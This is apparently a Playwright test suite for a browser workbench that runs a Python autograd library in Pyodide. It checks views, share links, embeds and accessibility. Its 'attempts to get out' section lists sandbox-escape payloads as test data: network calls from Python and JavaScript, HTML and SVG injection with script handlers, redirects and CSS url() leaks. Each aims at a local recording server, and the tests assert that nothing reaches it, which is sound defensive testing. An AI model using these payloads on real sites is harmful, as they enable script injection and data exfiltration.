"""The workbench in a real browser: typed, wrong, slow, sent as a link; and attempts to get out."""

import http.server
import re
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import ClassVar

import pytest
from docutils import nodes
from playwright.sync_api import Browser, ConsoleMessage, Error, FrameLocator, Page, expect

import live
import workbench
from chainlab.workbench import VIEWS
from tests.axe import severe
from tests.ext.test_workbench import STARTS
from tests.site.live import COLD, impatient
from tests.support import ROOT, each, lacking, serve
from tools import fetch_pyodide

SCRIPTS = ("look/book.bundle.js", "progress/kept.js")
SHEETS = ("look/book.css", "live/live.css", "workbench/workbench.css")
OPEN = "x = Node(3.0)\ny = x * x"
LONGEST = 2000  # characters of a link, beyond the page's own address


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The workbench on a page of its own, with what every page of the book has."""
    try:
        fetch_pyodide.assemble()
    except SystemExit:
        lacking("the runtime of live cells, from PyPI")
    folder = tmp_path_factory.mktemp("workbench")
    live.publish(folder / "_live")
    for name in (*SCRIPTS, *SHEETS):
        (folder / Path(name).name).write_text((ROOT / "_ext" / name).read_text())
    starts = [workbench.describe(name, text) for name, text in STARTS.items()]
    workbench.write(starts, folder / "_bench")
    base = {"root": "_live/", "built": "_bench/", "starts": starts}
    (folder / "embed.html").write_text(workbench.embed(base | {"here": "index.html"}, ""))
    told = base | {"page": "workbench", "embed": "embed.html"}
    heads = "".join(f'<script defer src="{Path(name).name}"></script>' for name in SCRIPTS)
    heads += "".join(f'<link rel="stylesheet" href="{Path(name).name}">' for name in SHEETS)
    heads += f"<style>{workbench.EMBEDDED}</style>"
    (folder / "index.html").write_text(
        '<!doctype html><html lang="en" data-theme="light"><meta charset="utf-8"><title>W</title>'
        f'<meta name="viewport" content="width=device-width">{workbench.POLICY}{heads}'
        '<main><h1>W</h1><div class="bench" id="workbench" hidden></div></main>'
        + workbench.element(told)
    )
    with serve(folder) as address:
        yield f"{address}/index.html"


@pytest.fixture(scope="module")
def page(browsers: Callable[[str], Browser], address: str) -> Iterator[Page]:
    """One page for all: Python starts once."""
    context = browsers("").new_context()
    page = context.new_page()
    page.goto(address)
    run(page, OPEN)
    yield page
    context.close()


def show(page: Page, view: str) -> None:
    page.get_by_role("group", name="Views").get_by_role("button", name=f"{view}").click()


def shown(page: Page, view: str) -> FrameLocator:
    """The frame of a view, once it stands there and no other is to come."""
    frame = f'.bench-stage:not([aria-busy], :has(.bench-new)) iframe[title="{view}"]'
    expect(page.locator(frame)).to_have_count(1, timeout=COLD)
    return page.frame_locator(frame)


def inside(frame: FrameLocator, expression: str) -> object:
    """What a script says in a frame."""
    return frame.locator("html").evaluate(f"() => {expression}")


def write(page: Page, text: str) -> None:
    """Put another text in, as if it were typed."""
    page.locator(".cm-content").click()
    page.keyboard.press("ControlOrMeta+a")
    page.keyboard.insert_text(text)


def run(page: Page, text: str, view: str = "graph") -> FrameLocator:
    """Write a text, and wait for its view; the text tells it from those before."""
    run.count += 1
    name = f"t{run.count}"
    if not page.get_by_role("button", name=f"{view}", pressed=True).count():
        show(page, view)
    write(page, f"{text}\n{name} = Node({run.count}.0)\n{name} * 1.0")
    page.locator(f'.bench-stage iframe[srcdoc*="{name}"]:not(.bench-new)').wait_for(timeout=COLD)
    return shown(page, view)


run.count = 0  # type: ignore[attr-defined]


def line(page: Page, number: int) -> str:
    return page.locator(".cm-line").nth(number - 1).inner_html()


# --- a text and its views -------------------------------------------------------------------------


def test_a_text_runs_as_the_writer_pauses(page: Page) -> None:
    write(page, "u = Node(3.0)\nuu = u * u")
    frame = page.locator('.bench-stage iframe[srcdoc*="uu = 9.0"]:not(.bench-new)')
    expect(frame).to_have_count(1, timeout=COLD)
    assert "grad 6.0" in shown(page, "graph").locator("body").inner_text()


@pytest.mark.parametrize("view", VIEWS)
def test_each_view_is_shown_and_its_scripts_run(page: Page, view: str) -> None:
    refused: list[str] = []

    def listen(message: ConsoleMessage) -> None:
        refused.append(message.text)

    def fail(error: Error) -> None:
        refused.append(str(error))

    page.on("console", listen)
    page.on("pageerror", fail)
    write(page, OPEN)
    show(page, view)
    frame = shown(page, view)
    expect(page.get_by_role("button", name=view, pressed=True)).to_have_count(1)
    if view == "play":
        frame.get_by_role("button", name="Forward", exact=True).click()
        expect(frame.get_by_role("button", name="Play")).to_be_visible()
    if view == "nudge":
        frame.locator("input[type=range]").fill("100")
        expect(frame.locator(".cg-words")).to_contain_text("7.5")
    if view == "written out":
        assert frame.locator("math").count() >= 1
        frame.locator("tr[data-nodes]").first.hover()
        assert frame.locator("g.node.cg-on").count() >= 1
        frame.locator("g.node").last.hover()
        assert frame.locator("tr.cg-on").count() >= 1
    page.remove_listener("console", listen)
    page.remove_listener("pageerror", fail)
    assert refused == []


def test_an_error_stands_at_its_line_and_the_view_stays(page: Page) -> None:
    run(page, "k = 1")
    write(page, "x = Node(2.0)\ny = exp(x)\ny")
    expect(page.locator(".bench-wrong li")).to_contain_text("Line 2", timeout=COLD)
    expect(page.locator(".bench-wrong li")).to_contain_text("Write np.exp")
    assert "cm-lintRange-error" in line(page, 2)
    assert "cm-lintRange" not in line(page, 1)
    assert page.locator(".bench-stage.bench-old iframe").count() == 1
    write(page, ENDLESS)
    expect(page.locator(".bench-stage[aria-busy]")).to_have_count(1, timeout=COLD)
    assert page.locator(".bench-wrong li").count() == 0  # while the next one runs
    run(page, "k = 1")
    assert page.locator(".bench-wrong li").count() == 0
    assert page.locator(".cm-lintRange-error").count() == 0


def test_what_comes_from_pytorch_is_answered(page: Page) -> None:
    write(page, "import torch\nx = torch.tensor(2.0, requires_grad=True)\ny = x * x")
    expect(page.locator(".bench-wrong li")).to_have_count(2, timeout=COLD)
    expect(page.locator(".bench-wrong li").last).to_contain_text("Write Node(2.0)")


def test_a_view_that_cannot_take_the_graph_says_why(page: Page) -> None:
    write(page, "x = Node(np.ones(13))\ny = x.sum()")
    greyed = page.get_by_role("group", name="Views").locator("[aria-disabled=true]")
    expect(greyed).to_have_text(["nudge", "order"], timeout=COLD)
    nudge = page.get_by_role("group", name="Views").get_by_role("button", name="nudge")
    assert "requires_grad=False" in (nudge.get_attribute("title") or "")
    nudge.focus()
    expect(page.locator(".bench-why")).to_contain_text("requires_grad=False")
    nudge.click(force=True)  # which asks Python nothing
    expect(page.get_by_role("button", name="graph", pressed=True)).to_have_count(1)
    write(page, OPEN)
    expect(greyed).to_have_count(0, timeout=COLD)
    expect(page.locator(".bench-why")).to_be_hidden()
    show(page, "order")
    shown(page, "order")
    write(page, "x = Node(np.ones(13))\ny = x.sum()")
    expect(page.locator(".bench-status")).to_contain_text("order takes a graph", timeout=COLD)
    show(page, "graph")


LONG = {
    "a loop": "x = Node(1.0)\nfor _ in range(1000):\n    x = x * 1.0 + 0.5\nx",
    "a sum": "sum([Node(float(i)) for i in range(2000)])",
    "lists": "l = []\nfor _ in range(20_000):\n    l = [l]\nprint(len(l), 'list')\n[Node(1.0)]",
}


@pytest.mark.walk
@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_what_is_long_or_deep_does_not_end_python(page: Page, text: str) -> None:
    run(page, "k = 1")
    write(page, text)
    said = page.locator(".bench-status:not(:empty), .bench-wrong li").first
    expect(said).to_contain_text(re.compile("4,001 nodes|several values"), timeout=COLD)
    page.wait_for_timeout(500)
    assert "This ended Python" not in page.locator(".bench-status").inner_text()
    run(page, "k = 1")


ENDLESS = "x = Node(1.0)\nwhile True:\n    pass"
FAILS = "print('said')\nx = Node(2.0)\ny = exp(x)\ny"


def left(page: Page) -> list[str]:
    """What stands there of the program that ran last, its view left aside."""
    marks = page.locator("[class*=cm-lintRange]").evaluate_all("all => all.map(e => e.className)")
    code = ".bench-share button:not([hidden]):text('Copy code')"
    parts = [".bench-wrong li", ".bench-printed:visible", code]
    return [*marks, *(text for part in parts for text in page.locator(part).all_text_contents())]


def take(page: Page, name: str) -> None:
    """Press what the menu Share offers."""
    page.locator(".bench-share summary").click()
    page.get_by_role("button", name=name, exact=True).click()


@pytest.mark.walk
def test_what_runs_too_long_is_ended_and_the_text_stays(page: Page) -> None:
    with impatient(page):
        write(page, ENDLESS)
        expect(page.locator(".bench-status")).to_contain_text("Ended", timeout=COLD)
    text = "\n".join(page.locator(".cm-line").all_inner_texts())
    assert text == ENDLESS
    run(page, "k = 1")


@pytest.mark.walk
@pytest.mark.parametrize(
    ("text", "said"), [(ENDLESS, "Ended"), ("raise KeyboardInterrupt('it left')", "it left")]
)
def test_nothing_of_the_program_before_stays(page: Page, text: str, said: str) -> None:
    run(page, "print('said')", "written out")
    assert left(page) == ["said\n", "Copy code"]
    write(page, FAILS)
    expect(page.locator(".bench-wrong li")).to_contain_text("Write np.exp", timeout=COLD)
    assert len(left(page)) == 3
    with impatient(page):
        write(page, text)
        expect(page.locator(".bench-status")).to_contain_text(said, timeout=COLD)
    assert left(page) == []
    expect(page.locator(".bench-stage.bench-old iframe")).to_have_count(1)


# --- links ----------------------------------------------------------------------------------------


def test_a_link_is_short_for_every_starting_point(page: Page, address: str) -> None:
    for name, text in STARTS.items():
        letters = page.evaluate(
            "async ([text, view]) => (await import('./_live/link.js')).packed(text, view)",
            [text, "written out"],
        )
        assert re.fullmatch(r"[\w-]+", letters), name
        assert len(letters) < LONGEST - 200, name
        came = page.evaluate(
            "async (letters) => (await import('./_live/link.js')).unpacked(letters)", letters
        )
        assert came == {"text": text, "view": "written out"}


@pytest.mark.parametrize("letters", ["", "x", "AAAA", "eJwDAAAAAAE", "S" * 500])
def test_what_is_no_program_is_refused(page: Page, letters: str) -> None:
    came = "async (letters) => (await import('./_live/link.js')).unpacked(letters)"
    assert page.evaluate(came, letters) is None


def test_a_link_that_unpacks_to_megabytes_is_refused(page: Page) -> None:
    came = """async () => {
        const { packed, unpacked } = await import("./_live/link.js");
        return await unpacked(await packed("x".repeat(10_000_000), "graph"));
    }"""
    assert page.evaluate(came) is None


@pytest.mark.walk
def test_a_link_shows_its_code_and_waits(browser: Browser, page: Page, address: str) -> None:
    letters = page.evaluate(
        "async (text) => (await import('./_live/link.js')).packed(text, 'check')", OPEN
    )
    reader = browser.new_context()
    other = reader.new_page()
    other.goto(f"{address}#f={letters}")
    expect(other.locator(".cm-content")).to_contain_text("y = x * x")
    expect(other.locator(".bench-from")).to_contain_text("Somebody else wrote this program")
    expect(other.get_by_role("button", name="check", pressed=True)).to_have_count(1)
    other.locator(".cm-content").click()
    other.keyboard.type("# mine\n")
    expect(other.locator(".bench-status")).to_have_text("", timeout=COLD)  # Python has started
    other.wait_for_timeout(1500)  # three times what a pause lasts
    assert other.locator(".bench-stage iframe").count() == 0
    other.get_by_role("button", name="Run").click()
    assert "The gradient agrees" in shown(other, "check").locator("body").inner_text()
    assert other.locator(".bench-from").is_hidden()
    reader.close()


def test_the_link_is_copied_or_shown(page: Page, address: str) -> None:
    run(page, OPEN)
    page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(Error('no')); }")
    take(page, "Copy link")
    field = page.locator(".bench-status textarea")
    expect(field).to_have_value(re.compile(re.escape(address) + r"#f=[\w-]+$"))


def test_the_view_is_saved_as_a_file_that_plays(browser: Browser, page: Page) -> None:
    run(page, OPEN, "play")
    with page.expect_download() as download:
        take(page, "Save as file")
    path = download.value.path()
    assert download.value.suggested_filename == "play.html"
    other = browser.new_page()
    asked: list[str] = []
    other.on("request", lambda request: asked.append(request.url))
    copy = path.with_suffix(".html")
    copy.write_bytes(path.read_bytes())
    other.goto(copy.as_uri())
    other.get_by_role("button", name="Backward").click()
    assert [url for url in asked if not url.startswith("data:")] == [copy.as_uri()]
    other.close()


@pytest.mark.walk
def test_a_broken_link_is_said_until_the_text_runs(browser: Browser, address: str) -> None:
    reader = browser.new_context()
    page = reader.new_page()
    page.goto(f"{address}#f=AAAA")
    expect(page.locator(".bench-from")).to_contain_text("The link holds no program", timeout=COLD)
    page.locator(".cm-content").click()  # Python starts
    page.wait_for_timeout(1500)
    expect(page.locator(".bench-from")).to_contain_text("The link holds no program")
    page.get_by_role("button", name="Run").click()
    expect(page.locator(".bench-from")).to_be_hidden()
    reader.close()


PATCH = "chaingrad.Node.sigmoid = None"


@pytest.mark.walk
def test_a_program_from_a_link_changes_nothing_for_the_next(
    browser: Browser, page: Page, address: str
) -> None:
    letters = page.evaluate(
        "async (text) => (await import('./_live/link.js')).packed(text, 'graph')",
        f"{PATCH}\nx = Node(3.0)\ny = x * x",
    )
    reader = browser.new_context()
    other = reader.new_page()
    other.goto(f"{address}#f={letters}")
    expect(other.locator(".cm-content")).to_contain_text(PATCH)
    other.get_by_role("button", name="Run").click()
    shown(other, "graph")
    other.evaluate("() => { window.before = document.querySelector('iframe[title=Python]'); }")
    write(other, f"{PATCH}\nx = Node(4.0)\ny = x * x\nx.sigmoid()")
    expect(other.locator(".bench-wrong li")).to_contain_text("Line 4", timeout=COLD)
    is_same = "before === document.querySelector('iframe[title=Python]')"
    assert other.evaluate(is_same)
    write(other, "x = Node(5.0)\nx.sigmoid()")
    expect(other.locator(".bench-stage iframe:not(.bench-new)[srcdoc*='0.9933']")).to_have_count(
        1, timeout=COLD
    )
    assert not other.evaluate(is_same)
    reader.close()


@pytest.mark.walk
@pytest.mark.parametrize("view", ["written out", "order"])
def test_an_address_that_names_a_view_shows_something_at_once(
    browser: Browser, address: str, view: str
) -> None:
    page = browser.new_page()
    page.route("**/runtime/**", lambda route: route.abort())
    page.goto(f"{address}#s=a-neuron&view={view}")
    frame = shown(page, "graph" if view == "order" else view)
    assert view == "order" or frame.locator("math").count() > 3
    page.close()


CUT = """() => [...document.querySelectorAll(".cg-lines td, .cg-scroll")]
    .filter((part) => part.scrollWidth > part.clientWidth + 1).map((part) => part.textContent)"""


@pytest.mark.walk
@each("name", STARTS)
def test_equations_fit_a_wide_stage(browser: Browser, address: str, name: str) -> None:
    page = browser.new_page(viewport={"width": 990, "height": 800})
    page.route("**/runtime/**", lambda route: route.abort())
    page.goto(f"{address}#s={nodes.make_id(name)}&view=written out")
    frame = shown(page, "written out")
    assert frame.locator("html").evaluate(CUT) == []
    page.close()


def test_the_drawing_is_saved_as_svg_and_png(browser: Browser, page: Page, address: str) -> None:
    other = browser.new_page()
    other.goto(address)
    shown(other, "graph")
    files = {}
    for name in ("SVG", "PNG"):
        with other.expect_download() as download:
            take(other, name)
        files[name] = download.value.path().read_bytes()
    assert files["PNG"].startswith(b"\x89PNG")
    svg = files["SVG"].decode()
    assert "sans-serif" in svg
    assert not re.search(r"var\(|light-dark|href|url\(|<style|<script", svg)
    stands = "() => document.querySelector('.bench-desk').getBoundingClientRect().y + scrollY"
    before = other.evaluate(stands)
    show(other, "play")
    shown(other, "play")
    other.locator(".bench-share summary").click()
    expect(other.get_by_role("button", name="Copy link")).to_be_visible()
    expect(other.get_by_role("button", name="SVG", exact=True)).to_be_hidden()
    assert other.evaluate(stands) == before
    other.keyboard.press("Escape")
    expect(other.get_by_role("button", name="Copy link")).to_be_hidden()
    other.close()


def test_a_forged_drawing_keeps_its_shapes_alone(page: Page) -> None:
    forged = (
        "<svg xmlns='http://www.w3.org/2000/svg' onload='out()'><script>out()</script>"
        "<image href='http://other'/><foreignObject/><g fill='url(http://other)'>"
        "<text style='x' onclick='out()'>kept</text></g></svg>"
    )
    kept = page.evaluate(
        "async (svg) => (await import('./_live/picture.js')).harmless(svg)", forged
    )
    assert "kept" in kept
    assert not re.search(r"out|other|script|image|foreign|style", kept)
    for none in ("<html/>", "no", 3, "<svg"):
        came = "async (svg) => (await import('./_live/picture.js')).harmless(svg)"
        assert page.evaluate(came, none) == ""


def test_a_starting_point_is_shown_without_python(browser: Browser, address: str) -> None:
    page = browser.new_page()
    page.route("**/runtime/**", lambda route: route.abort())
    page.goto(address)
    assert "grad 4.0" in shown(page, "graph").locator("body").inner_text()
    page.get_by_label("Starting points").select_option("Rosenbrock's valley")
    show(page, "play")
    shown(page, "play").get_by_role("button", name="Backward").click()
    page.close()


def test_a_draft_is_kept(browser: Browser, address: str) -> None:
    reader = browser.new_context()
    page = reader.new_page()
    page.goto(address)
    expect(page.locator(".cm-content")).to_be_visible()
    write(page, "# kept\nNode(1.0)")
    page.wait_for_function("kept.read('workbench').bench?.text.text.startsWith('# kept')")
    page.reload()
    expect(page.locator(".cm-content")).to_contain_text("# kept")
    reader.close()


# --- attempts to get out --------------------------------------------------------------------------


class Recorded(http.server.BaseHTTPRequestHandler):
    """Another origin, which notes what reaches it."""

    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"taken")

    do_POST = do_GET  # noqa: N815

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def other() -> Iterator[str]:
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorded) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        Recorded.hits.clear()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def reached(page: Page, other: str) -> list[str]:
    """What reached the other origin, after what the page itself is known to have sent there."""
    page.wait_for_timeout(1500)
    before = list(Recorded.hits)
    page.evaluate("(other) => fetch(`${other}/proof`).then((r) => r.text())", other)
    assert Recorded.hits[-1] == "/proof"
    return before


# Each is tried by itself; "made" is said of what can be made, and then says nothing to anybody.
TRIES = {
    "fetch": "js.fetch('OTHER/fetch')",
    "xhr": "r = js.XMLHttpRequest.new(); r.open('GET', 'OTHER/xhr', False); r.send()",
    "socket": "js.WebSocket.new('OTHER/socket'.replace('http', 'ws'))",
    "events": "js.EventSource.new('OTHER/events')",
    "import": "js.eval('import(\"OTHER/import.mjs\")')",
    "function": "js.Function.new('return import(\"OTHER/function.mjs\")')()",
    "scripts": "js.importScripts('OTHER/scripts.js')",
    "blob": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(["
    '\'fetch("OTHER/nested");importScripts("OTHER/deeper.js")\']))))',
    "worker": "js.Worker.new('OTHER/worker.js')",
    "beacon": "js.navigator.sendBeacon('OTHER/beacon')",
    "database": "js.indexedDB.open('taken')",
    "caches": "js.caches.open('taken')",
    "channel": "js.BroadcastChannel.new('taken').postMessage('out')",
    "rtc": "js.RTCPeerConnection.new()",
    "transport": "js.WebTransport.new('https://127.0.0.1:1/')",
    "message": "js.postMessage(to_js({'height': 5, 'type': 'out'}))",
    "python": "__import__('urllib.request').request.urlopen('OTHER/python')",
}


def trying(other: str) -> str:
    """A program that tries to reach another origin."""
    tries = "\n".join(
        f"try:\n    {code.replace('OTHER', other)}\n    print('{name} made')\n"
        f"except BaseException as error:\n    print('{name}', type(error).__name__)"
        for name, code in TRIES.items()
    )
    return f"import js\nfrom pyodide.ffi import to_js\n{tries}"


def test_nothing_gets_out_from_python(page: Page, other: str) -> None:
    page.evaluate(
        """() => {
            window.heard = [];
            new BroadcastChannel("taken").onmessage = ({ data }) => heard.push(data);
        }"""
    )
    run(page, trying(other))
    printed = page.locator(".bench-printed").inner_text()
    assert {row.split()[0] for row in printed.splitlines()} >= set(TRIES)
    assert reached(page, other) == []
    assert page.evaluate("heard") == []
    assert page.evaluate("indexedDB.databases()") == []
    assert "taken" not in page.evaluate("caches.keys()")
    assert "rtc made" not in printed


SHOWN = """
<img src="OTHER/img"><img src="data:," onerror="fetch('OTHER/onerror');out=1">
<svg><image href="OTHER/image"/><script>out=2</script></svg>
<script>out=3;location='OTHER/location';top.location='OTHER/top';new Image().src='OTHER/made'
new RTCPeerConnection();parent.document.title='out'</script>
<script src="OTHER/script.js"></script><script type="module">import 'OTHER/module.mjs'</script>
<link rel="stylesheet" href="OTHER/sheet.css"><link rel="prefetch" href="OTHER/prefetch">
<link rel="icon" href="OTHER/icon"><style>@import 'OTHER/import.css';
@font-face{font-family:f;src:url(OTHER/font)}body{background:url(OTHER/bg);font-family:f}</style>
<iframe src="OTHER/frame"></iframe><iframe srcdoc="<script>parent.out=4</script>"></iframe>
<object data="OTHER/object"></object><embed src="OTHER/embed"><video src="OTHER/video"></video>
<audio src="OTHER/audio"></audio><base href="OTHER/">
<form action="OTHER/form"><button>Send</button></form>
<a id="top" href="OTHER/a" target="_top">top</a><a id="new" href="OTHER/new" target="_blank">new</a>
<a id="script" href="javascript:out=5">script</a><a id="own" href="OTHER/own">own</a>
"""


def showing(html: str) -> str:
    """A program that puts HTML of its own before the next drawing."""
    return (
        "from chainview import Drawing\nbundle = Drawing._repr_mimebundle_\n"
        f"def bad(self, *_, **__):\n    Drawing._repr_mimebundle_ = bundle\n"
        f"    return {{'text/html': {html!r} + self.alt}}\n"
        "Drawing._repr_mimebundle_ = bad\n"
    )


def test_nothing_gets_out_from_what_is_shown(page: Page, other: str) -> None:
    here = page.url
    bad = SHOWN.replace("OTHER", other)
    frame = run(page, showing(bad))
    assert inside(frame, "typeof out") == "undefined"
    assert inside(frame, "origin") == "null"
    for name in ("top", "new", "script"):
        frame.locator(f"#{name}").click()
    frame.get_by_role("button", name="Send").click()
    assert inside(frame, "typeof out") == "undefined"
    frame.locator("#own").click()
    assert reached(page, other) == []
    assert page.url == here
    assert page.title() == "W"
    assert len(page.context.pages) == 1


def test_a_view_goes_nowhere_by_itself(page: Page, other: str) -> None:
    refresh = showing(f'<meta http-equiv="refresh" content="0;url={other}/refresh">')
    write(page, f"{refresh}x = Node(1.0)\nx * x")
    page.locator('.bench-stage iframe[srcdoc*="/refresh"]').wait_for(state="attached")
    assert reached(page, other) == []


# --- on a page of another origin -----------------------------------------------------------------


@pytest.mark.walk
def test_it_is_embedded_elsewhere(browser: Browser, page: Page, other: str, tmp_path: Path) -> None:
    """A starting point is shown at once; a program is read first, and gets out no more."""
    show(page, "graph")
    take(page, "Embed")
    line = page.get_by_role("textbox", name="HTML")
    expect(line).to_have_value(re.compile("embed.html#f="))
    before = line.input_value()
    write(page, f"{trying(other)}\n{OPEN}")
    expect(line).not_to_have_value(before)
    program = line.input_value()
    page.get_by_label("Starting points").select_option("Two additions")
    show(page, "graph")
    page.get_by_label("Colours").select_option("dark")
    expect(line).to_have_value(re.compile("#s=two-additions&amp;view=graph&amp;theme=dark"))
    expect(page.locator(".bench-panel")).to_contain_text("your own computer")
    start = line.input_value()
    take(page, "Embed")
    closed = program.replace("<iframe", '<iframe sandbox="allow-scripts"')  # without storage
    (tmp_path / "index.html").write_text(
        f'<!doctype html><html lang="en"><title>Host</title>{start}{program}{closed}'
    )
    with serve(tmp_path) as host:
        page = browser.new_page()
        page.goto(host)
        first, *programs = (page.locator("iframe").nth(i).content_frame for i in range(3))
        still = first.locator('iframe[title="graph"]:not(.bench-new)').content_frame
        expect(still.locator("body")).to_contain_text("grad 4.0")
        expect(first.locator("html")).to_have_attribute("data-theme", "dark")
        for place, frame in enumerate(programs, 1):
            page.locator("iframe").nth(place).scroll_into_view_if_needed()
            expect(frame.locator(".bench-from")).to_contain_text("Somebody else wrote this")
            expect(frame.locator(".cm-content")).to_contain_text("import js")
            assert frame.locator(".bench-stage iframe").count() == 0
            frame.get_by_role("button", name="Run").click()
            view = frame.locator(".bench-stage iframe:not(.bench-new)").content_frame
            expect(view.locator("body")).to_contain_text("grad 6.0", timeout=COLD)
            printed = frame.locator(".bench-printed").inner_text()
            assert {row.split()[0] for row in printed.splitlines()} >= set(TRIES)
            assert "rtc made" not in printed
        assert reached(page, other) == []
        page.close()


# --- for every reader -----------------------------------------------------------------------------


def test_by_keyboard_alone(page: Page) -> None:
    page.locator("h1").click()  # from the start of the page
    for _ in range(20):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.classList.contains('cm-content')"):
            break
    page.keyboard.press("ControlOrMeta+a")
    page.keyboard.type("x = Node(5.0)\nx * x")
    page.keyboard.press("Shift+Enter")
    page.locator('.bench-stage iframe[srcdoc*="25.0"]:not(.bench-new)').wait_for(timeout=COLD)
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.textContent") == "graph"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    shown(page, "play")


@pytest.mark.walk
def test_another_theme_while_a_view_comes_shows_that_view(page: Page) -> None:
    run(page, OPEN)
    page.evaluate(
        """() => new MutationObserver((_, watch) => {
            if (document.querySelector(".bench-new")) {
                watch.disconnect();
                document.documentElement.dataset.theme = "dark";
            }
        }).observe(document.querySelector(".bench-stage"), { childList: true })"""
    )
    show(page, "play")
    frame = shown(page, "play")
    expect(frame.locator("html")).to_have_attribute("data-theme", "dark")
    page.evaluate("document.documentElement.dataset.theme = 'light'")


@pytest.mark.walk
@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing_serious_and_it_fits(page: Page, theme: str, width: int) -> None:
    page.bring_to_front()  # a window behind others draws no frames, and what is new waits for one
    page.set_viewport_size({"width": width, "height": 844})
    page.evaluate("(theme) => { document.documentElement.dataset.theme = theme; }", theme)
    write(page, OPEN)
    for view in VIEWS:
        show(page, view)
        frame = shown(page, view)
        expect(page.locator(f"iframe[srcdoc*='data-theme=\"{theme}\"']")).to_have_count(1)
        assert inside(frame, "document.documentElement.scrollWidth <= innerWidth"), view
        ground = "getComputedStyle(document.documentElement).backgroundColor"
        assert inside(frame, ground) == page.evaluate(ground.replace("documentElement", "body"))
    assert severe(page) == []
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
    page.set_viewport_size({"width": 1280, "height": 720})
    page.evaluate("document.documentElement.dataset.theme = 'light'")
